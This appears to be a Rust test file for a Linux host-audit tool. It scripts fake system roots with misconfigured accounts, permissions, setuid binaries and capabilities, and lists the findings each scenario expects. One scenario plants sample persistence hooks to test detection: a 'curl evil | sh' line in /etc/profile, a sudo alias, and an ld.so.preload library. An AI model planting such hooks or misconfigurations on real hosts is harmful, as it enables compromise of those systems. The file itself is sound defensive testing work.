//! The pack `host`: accounts, permissions and start-up of a system.

use super::scene::{Need, Scene, fail, not_applicable, not_checked, pass, play};

const PACK: &[&str] = &["host"];

/// Owners and the bits of others.
const ROOT: &[Need] = &[Need::Root];

/// A host with three accounts and everything in order; a script goes on from there.
macro_rules! sound {
    ($($rest:literal)*) => {
        concat!(
            r#"
chmod 755 root
mkdir -p root/root/.ssh root/home/ann/.ssh root/tmp root/var/tmp root/var/lib root/usr/local/bin root/usr/sbin root/etc/profile.d \
    root/etc/cron.d root/etc/sudoers.d root/etc/ssh root/etc/ssl/private
chmod 700 root/root root/root/.ssh root/home/ann/.ssh root/etc/ssl/private
chmod 1777 root/tmp root/var/tmp
cat >root/etc/passwd <<'EOF'
root:x:0:0:root:/root:/bin/bash
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
ann:x:1000:1000:Ann:/home/ann:/bin/bash
EOF
cat >root/etc/group <<'EOF'
root:x:0:
mail:x:8:
shadow:x:42:
ann:x:1000:
EOF
cat >root/etc/shadow <<'EOF'
root:*:19000:0:99999:7:::
mail:*:19000:0:99999:7:::
ann:$y$j9T$made$up:19000:0:99999:7:::
EOF
chown 0:42 root/etc/shadow
chmod 640 root/etc/shadow
echo 'umask 022' >root/etc/profile
echo '* * * * * root true' >root/etc/cron.d/x
echo 'root ALL=(ALL) ALL' >root/etc/sudoers
echo key >root/etc/ssh/ssh_host_rsa_key
echo key >root/home/ann/.ssh/authorized_keys
echo 'PS1=%' >root/home/ann/.profile
chmod 440 root/etc/sudoers
chmod 600 root/etc/ssh/ssh_host_rsa_key
cp root/usr/bin/tool root/usr/bin/su
cp root/usr/bin/tool root/usr/bin/chage
chmod 755 root/usr/bin/tool
chmod 4755 root/usr/bin/su
chmod 2755 root/usr/bin/chage
chown -R 1000:1000 root/home/ann
packaged tools 1.0 usr/bin/tool usr/bin/su usr/bin/chage
"#,
            $($rest),*
        )
    };
}

pub(super) const SCENES: &[Scene] = &[
    Scene {
        name: "a sound host",
        packs: PACK,
        needs: ROOT,
        script: sound!("golden; check sealed"),
        ends: &[
            pass("host/accounts_without_shell_locked"),
            pass("host/authorized_keys_of_system_accounts"),
            pass("host/authorized_keys_permissions"),
            pass("host/capabilities_allowed"),
            pass("host/device_nodes_outside_dev"),
            pass("host/duplicate_accounts"),
            pass("host/empty_passwords"),
            pass("host/executables_in_temporary_directories"),
            pass("host/files_without_account"),
            pass("host/gid_0_of_root_alone"),
            pass("host/ld_so_preload_empty"),
            pass("host/malformed_account_lines"),
            pass("host/no_rsh_trust_files"),
            pass("host/passwd_permissions"),
            pass("host/passwords_shadowed"),
            pass("host/primary_groups_exist"),
            pass("host/private_directories"),
            pass("host/second_uid_0"),
            pass("host/setgid_allowed"),
            pass("host/setuid_allowed"),
            pass("host/shadow_group_empty"),
            pass("host/shadow_permissions"),
            pass("host/shell_start_files"),
            pass("host/shell_start_files_unchanged"),
            pass("host/ssh_host_keys_private"),
            pass("host/sudoers_permissions"),
            pass("host/system_accounts_without_login"),
            pass("host/system_directories"),
            pass("host/unowned_executables"),
            pass("host/what_root_runs"),
            pass("host/world_writable"),
        ],
    },
    Scene {
        name: "accounts that should not be there",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
cat >>root/etc/passwd <<'EOF'
toor:x:0:0::/root:/bin/bash
web:$y$j9T$made$up:33:33::/srv:/usr/sbin/nologin
open::1001:1000::/home/open:/bin/bash
broken:line
games:x:5:8::/usr/games:/bin/sh
EOF
sed -i 's/^shadow:.*/shadow:x:42:ann/' root/etc/group
sed -i 's/^mail:.*/mail::19000:0:99999:7:::/' root/etc/shadow
cp root/home/ann/.ssh/authorized_keys root/root/.ssh/
chmod 666 root/root/.ssh/authorized_keys
chown 8:8 root/root/.ssh/authorized_keys
check dir:root
"#
        ),
        ends: &[
            fail("host/second_uid_0", &["/etc/passwd:4 | toor | root alone"]),
            fail(
                "host/gid_0_of_root_alone",
                &["/etc/passwd:4 | toor | another first group than 0"],
            ),
            fail("host/duplicate_accounts", &["/etc/passwd:4 | uid 0 | once"]),
            fail(
                "host/malformed_account_lines",
                &["/etc/passwd:7 | its user or group is no number | a line of its form"],
            ),
            fail(
                "host/empty_passwords",
                &[
                    "/etc/passwd:6 | open has an empty password | a password, or a lock",
                    "/etc/shadow:2 | mail has an empty password | a password, or a lock",
                ],
            ),
            fail(
                "host/passwords_shadowed",
                &["/etc/passwd:5 | a password of web | x, and the password in /etc/shadow"],
            ),
            fail(
                "host/primary_groups_exist",
                &["/etc/passwd:5 | web in group 33 | a group of /etc/group"],
            ),
            fail("host/shadow_group_empty", &["/etc/group:3 | ann | no member of shadow"]),
            fail(
                "host/system_accounts_without_login",
                &[
                    "/etc/passwd:4 | toor with /bin/bash | /usr/sbin/nologin",
                    "/etc/passwd:8 | games with /bin/sh | /usr/sbin/nologin",
                ],
            ),
            fail(
                "host/accounts_without_shell_locked",
                &[
                    "/etc/passwd:2 | mail with a password | a locked account",
                    "/etc/passwd:5 | web with a password | a locked account",
                ],
            ),
            fail(
                "host/authorized_keys_of_system_accounts",
                &[
                    "/root/.ssh/authorized_keys | authorized keys of root | none",
                    "/root/.ssh/authorized_keys | authorized keys of toor | none",
                ],
            ),
            fail(
                "host/authorized_keys_permissions",
                &[
                    "/root/.ssh/authorized_keys | mail:mail 0666 | 0755 or less",
                    "/root/.ssh/authorized_keys | mail:mail 0666 | owner 0",
                ],
            ),
        ],
    },
    Scene {
        name: "others may change what is root's",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
chmod 666 root/etc/passwd
chmod 644 root/etc/shadow
chmod 446 root/etc/sudoers
chmod 644 root/etc/ssh/ssh_host_rsa_key
chmod 755 root/root
chmod 777 root/usr/local/bin
chown 1000:1000 root/etc/cron.d/x
chown 1000 root/etc/profile
chown 8 root/home/ann/.profile
echo + >root/etc/hosts.equiv
check dir:root
"#
        ),
        ends: &[
            fail("host/passwd_permissions", &["/etc/passwd | root:root 0666 | 0644 or less"]),
            fail("host/shadow_permissions", &["/etc/shadow | root:shadow 0644 | 0640 or less"]),
            fail("host/sudoers_permissions", &["/etc/sudoers | root:root 0446 | 0640 or less"]),
            fail(
                "host/ssh_host_keys_private",
                &["/etc/ssh/ssh_host_rsa_key | root:root 0644 | 0600 or less"],
            ),
            fail("host/private_directories", &["/root | root:root 0755 | 0700 or less"]),
            fail("host/system_directories", &["/usr/local/bin | root:root 0777 | 0755 or less"]),
            fail("host/what_root_runs", &["/etc/cron.d/x | ann:ann 0644 | owner 0"]),
            fail(
                "host/shell_start_files",
                &[
                    "/etc/profile | ann:root 0644 | owner 0",
                    "/home/ann/.profile | mail:ann 0644 | owner 0 or 1000",
                ],
            ),
            fail("host/no_rsh_trust_files", &["/etc/hosts.equiv | file | no such file"]),
            fail(
                "host/world_writable",
                &[
                    "/etc/passwd | root:root 0666 | no permission to write for everybody",
                    "/etc/sudoers | root:root 0446 | no permission to write for everybody",
                    "/usr/local/bin | root:root 0777 | the sticky bit",
                ],
            ),
        ],
    },
    Scene {
        name: "programs that nobody expects",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
cp root/usr/bin/tool root/usr/bin/passwd
cp root/usr/bin/tool root/usr/bin/expiry
chmod 4755 root/usr/bin/passwd root/usr/bin/tool
chmod 2755 root/usr/bin/expiry
cp root/usr/bin/tool root/usr/local/bin/extra
chmod 2755 root/usr/local/bin/extra
cp root/usr/bin/tool root/tmp/x
chmod 755 root/tmp/x
mkdir -p root/srv
mknod root/srv/disk b 8 0
echo x >root/srv/orphan
chown 4711:4712 root/srv/orphan
check dir:root
"#
        ),
        ends: &[
            fail(
                "host/setuid_allowed",
                &[
                    "/usr/bin/passwd | root:root 4755, of no package that was read | a file of a package",
                    "/usr/bin/tool (tools) | root:root 4755 | no setuid bit",
                ],
            ),
            fail(
                "host/setgid_allowed",
                &[
                    "/usr/bin/expiry | root:root 2755, of no package that was read | a file of a package",
                    "/usr/local/bin/extra | root:root 2755 | no setgid bit",
                ],
            ),
            fail(
                "host/unowned_executables",
                &[
                    "/usr/bin/expiry | root:root 2755, of no package | a file of a package or of the baseline",
                    "/usr/bin/passwd | root:root 4755, of no package | a file of a package or of the baseline",
                    "/usr/local/bin/extra | root:root 2755, of no package | a file of a package or of the baseline",
                ],
            ),
            fail(
                "host/executables_in_temporary_directories",
                &["/tmp/x | root:root 0755 | no executable file"],
            ),
            fail(
                "host/device_nodes_outside_dev",
                &["/srv/disk | block device root:root 0644 | no device outside /dev"],
            ),
            fail(
                "host/files_without_account",
                &[
                    "/srv/orphan | 4711:4712 0644 | an account of /etc/passwd and a group of /etc/group",
                ],
            ),
        ],
    },
    Scene {
        name: "file capabilities",
        packs: PACK,
        needs: &[Need::Root, Need::Tool("setcap")],
        script: sound!(
            r#"
cp root/usr/bin/tool root/usr/bin/ping
packaged pingers 1.0 usr/bin/ping
setcap cap_net_raw+ep root/usr/bin/ping
setcap cap_setuid+ep root/usr/bin/tool
check dir:root
"#
        ),
        ends: &[fail(
            "host/capabilities_allowed",
            &["/usr/bin/tool (tools) | cap_setuid=ep | no capability"],
        )],
    },
    Scene {
        name: "what shells and the linker load was changed",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
golden
echo 'curl evil | sh' >>root/etc/profile
echo 'alias sudo=evil' >root/home/ann/.bashrc
echo /usr/lib/libevil.so >root/etc/ld.so.preload
check sealed
"#
        ),
        ends: &[
            fail(
                "host/shell_start_files_unchanged",
                &[
                    "/etc/profile | modified | as in the baseline",
                    "/home/ann/.bashrc | added | as in the baseline",
                ],
            ),
            fail(
                "host/ld_so_preload_empty",
                &["/etc/ld.so.preload:1 | /usr/lib/libevil.so | no library"],
            ),
        ],
    },
    Scene {
        name: "a command that the baseline holds",
        packs: PACK,
        needs: ROOT,
        script: sound!("cp root/usr/bin/tool root/usr/local/bin/agent; golden; check sealed"),
        ends: &[pass("host/unowned_executables")],
    },
    Scene {
        name: "links to what nobody judges",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
mkdir -p root/srv root/etc/systemd/system/a.wants
mv root/etc/shadow root/etc/profile root/etc/sudoers root/etc/cron.d/x root/etc/group root/srv
mv root/home/ann/.ssh/authorized_keys root/srv
for name in shadow profile sudoers group; do ln -s ../srv/$name root/etc/$name; done
ln -s /srv/x root/etc/cron.d/x
ln -s /srv/authorized_keys root/home/ann/.ssh/authorized_keys
ln -s /lib/systemd/system/b.service root/etc/systemd/system/a.wants/b.service
chown -h 1000:1000 root/home/ann/.ssh/authorized_keys
check dir:root
"#
        ),
        ends: &[
            not_checked("host/shadow_permissions", "/etc/shadow leads to"),
            not_checked("host/passwd_permissions", "/etc/group leads to"),
            not_checked("host/sudoers_permissions", "/etc/sudoers leads to"),
            not_checked("host/shell_start_files", "/etc/profile leads to"),
            not_checked("host/what_root_runs", "/etc/cron.d/x leads to"),
            not_checked("host/authorized_keys_permissions", "authorized_keys leads to"),
        ],
    },
    Scene {
        name: "programs and command directories of others",
        packs: PACK,
        needs: ROOT,
        script: sound!(
            r#"
chown 1000 root/usr/bin/tool
mkdir -p root/usr/lib/any root/opt/x
echo 1 >root/usr/lib/any/libx.so.1
chmod 666 root/usr/lib/any/libx.so.1
rmdir root/usr/local/bin
ln -s /opt/x root/usr/local/bin
sed -i 's/^root:.*/root:x:0:ann/' root/etc/group
check dir:root
"#
        ),
        ends: &[
            fail(
                "host/system_directories",
                &[
                    "/usr/bin/tool | ann:root 0755 | owner 0",
                    "/usr/lib/any/libx.so.1 | root:root 0666 | 7755 or less",
                ],
            ),
            fail(
                "host/unowned_executables",
                &["/usr/local/bin | a link to /opt/x | a directory, or a link to another of these"],
            ),
            fail("host/gid_0_of_root_alone", &["/etc/group:1 | ann | no member but root"]),
        ],
    },
    Scene {
        name: "a root without accounts, packages and baseline",
        packs: PACK,
        needs: ROOT,
        script: "chmod 755 root; check dir:root",
        ends: &[
            not_applicable("host/second_uid_0", "there is no /etc/passwd"),
            not_applicable("host/empty_passwords", "there is no /etc/passwd"),
            not_applicable("host/duplicate_accounts", "there is neither"),
            not_applicable("host/files_without_account", "there is no /etc/passwd"),
            not_applicable("host/shadow_permissions", "there is neither"),
            not_applicable("host/sudoers_permissions", "sudo is not configured"),
            not_applicable("host/ssh_host_keys_private", "no private SSH key"),
            not_checked("host/unowned_executables", "no package database"),
            not_checked("host/shell_start_files_unchanged", "nothing to compare with"),
            pass("host/setuid_allowed"),
            pass("host/ld_so_preload_empty"),
        ],
    },
];

#[test]
fn host_ends_as_its_scenes_say() {
    play(SCENES);
}
